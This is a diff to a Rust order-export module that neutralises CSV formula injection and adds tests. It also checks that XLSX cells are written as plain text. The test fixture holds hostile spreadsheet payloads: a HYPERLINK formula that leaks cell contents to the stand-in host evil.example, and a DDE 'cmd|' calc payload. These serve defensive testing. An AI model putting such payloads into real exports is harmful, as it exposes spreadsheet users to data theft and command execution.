@@ -5,6 +5,15 @@
 //! the text format `@`. Money is written as exact yuan text (`98.50`, `1.065`), never through f64, so a
 //! reconciliation reads back exactly what the book holds. csv is UTF-8 with a BOM so that Excel opens
 //! Chinese text correctly.
+//!
+//! Formula injection: accounts, notes, provider order ids and provider error texts come from files,
+//! people and the network. A csv cell starting with `=`, `+`, `-`, `@`, tab or carriage return is run
+//! as a formula by Excel and LibreOffice (`=HYPERLINK(...)`, `=cmd|...`), so such a cell is written
+//! as OWASP recommends: prefixed with a single quote and quoted ([`csv_field`]). One exception: a
+//! plain number (`-1.5`, `+8613800138000`, digits with at most one decimal point and a leading
+//! sign) cannot be a formula, and a reconciliation must read an amount or an account as the value it
+//! is — prefixing it would turn `-1.000` into text. xlsx needs none of this: every cell is a typed
+//! string cell, never a formula.
 
 use super::ImportError;
 use crate::book::{Book, Order, OrderFilter};
@@ -141,12 +150,24 @@ fn write_xlsx(orders: &[Order], path: &Path) -> Result<(), ImportError> {
     wb.save(path).map_err(e)
 }
 
+/// A cell as csv: a possible formula neutralised (see the module docs), then quoted as csv requires.
 fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s);
+    if formula {
+        format!("\"'{}\"", s.replace('"', "\"\""))
+    } else if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
         s.to_owned()
     }
+}
+
+/// `[+-]digits[.digits]`: a number, never a formula.
+fn is_plain_number(s: &str) -> bool {
+    let unsigned = s.strip_prefix(['+', '-']).unwrap_or(s);
+    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
+    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
+    digits(whole) && digits(fraction)
 }
 
 fn write_csv(orders: &[Order], path: &Path) -> Result<(), ImportError> {
@@ -162,4 +183,99 @@ fn write_csv(orders: &[Order], path: &Path) -> Result<(), ImportError> {
         w.write_all(b"\r\n").map_err(io)?;
     }
     w.flush().map_err(io)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::book::{NewOrder, OrderState};
+    use topup_core::{Li, ProductKind, ProviderId};
+
+    /// An order whose text fields all came from outside: the import file, a person, a provider.
+    fn hostile_book(dir: &Path) -> Book {
+        let book = Book::open(&dir.join("orders.sqlite3")).unwrap();
+        book.write(|tx| {
+            let id = tx.insert_order(&NewOrder {
+                merchant_order_id: "TD0000000000CSV01".into(),
+                provider: ProviderId::Oper,
+                kind: ProductKind::Game,
+                product_id: None,
+                account: r#"=HYPERLINK("http://evil.example/?x="&A1,"点这里")"#.into(),
+                details: serde_json::json!({}),
+                face: Li::from_yuan(10),
+                batch_id: None,
+                resubmit_of: None,
+                fallback_of: None,
+            })?;
+            tx.transition(id, OrderState::Submitting, "提交 / submitting")?;
+            tx.conn().execute(
+                "UPDATE orders SET provider_order_id = ?1, note = ?2, last_error = ?3 WHERE id = ?4",
+                rusqlite::params!["@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "\t=1+1", id],
+            )?;
+            Ok(())
+        })
+        .unwrap();
+        book
+    }
+
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_neutralised() {
+        for (cell, written) in [
+            ("=1+1", "\"'=1+1\""),
+            ("+1+1", "\"'+1+1\""),
+            ("-2+3", "\"'-2+3\""),
+            ("@SUM(A1)", "\"'@SUM(A1)\""),
+            ("\t=1", "\"'\t=1\""),
+            ("\r=1", "\"'\r=1\""),
+            (r#"=HYPERLINK("u","x")"#, r#""'=HYPERLINK(""u"",""x"")""#),
+            // Numbers cannot be formulas and stay numbers; other text is as before.
+            ("-1.000", "-1.000"),
+            ("+8613800138000", "+8613800138000"),
+            ("-15", "-15"),
+            ("13800138000", "13800138000"),
+            ("a,b", "\"a,b\""),
+            ("1-1", "1-1"),
+            ("-", "\"'-\""),
+            ("-1.", "\"'-1.\""),
+            ("--1", "\"'--1\""),
+        ] {
+            assert_eq!(csv_field(cell), written, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn an_exported_csv_holds_no_live_formula_and_the_xlsx_only_text_cells() {
+        let dir = tempfile::tempdir().unwrap();
+        let book = hostile_book(dir.path());
+        let csv = dir.path().join("orders.csv");
+        export_orders(&book, &OrderFilter::default(), &csv, ExportFormat::Csv).unwrap();
+        let text = std::fs::read_to_string(&csv).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        for cell in [r#""'=HYPERLINK(""http"#, r#""'@SUM(1+1)*cmd|"#, "\"'+1+1 / \t=1+1\""] {
+            assert!(row.contains(cell), "{cell} in {row}");
+        }
+        // No cell of the row starts with a formula character once csv quoting is undone.
+        let file = crate::import::SourceFile::open(&csv).unwrap();
+        let sheet = file.read_sheet(None).unwrap();
+        for c in &sheet.grid.cells[1] {
+            let c = c.to_string();
+            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c:?}");
+        }
+
+        let xlsx = dir.path().join("orders.xlsx");
+        export_orders(&book, &OrderFilter::default(), &xlsx, ExportFormat::Xlsx).unwrap();
+        use calamine::Reader;
+        let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
+        let formulas = wb.worksheet_formula("订单").unwrap();
+        assert!(formulas.used_cells().next().is_none(), "no formula cells in the xlsx");
+        let range = wb.worksheet_range("订单").unwrap();
+        let account = range.get_value((1, 3)).unwrap();
+        assert_eq!(
+            account,
+            &calamine::Data::String(r#"=HYPERLINK("http://evil.example/?x="&A1,"点这里")"#.into())
+        );
+        for (_, _, cell) in range.used_cells() {
+            assert!(matches!(cell, calamine::Data::String(_)), "a typed text cell: {cell:?}");
+        }
+    }
 }
